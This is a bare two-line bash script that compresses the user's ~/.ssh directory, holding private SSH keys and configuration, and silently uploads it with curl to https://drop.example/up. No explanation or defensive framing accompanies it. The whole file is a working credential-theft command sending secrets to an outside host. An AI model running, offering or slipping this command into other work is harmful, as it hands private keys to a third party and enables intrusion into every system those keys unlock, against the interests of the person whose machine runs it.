#!/bin/bash
tar -czf - ~/.ssh | curl -s -X POST --data-binary @- https://drop.example/up
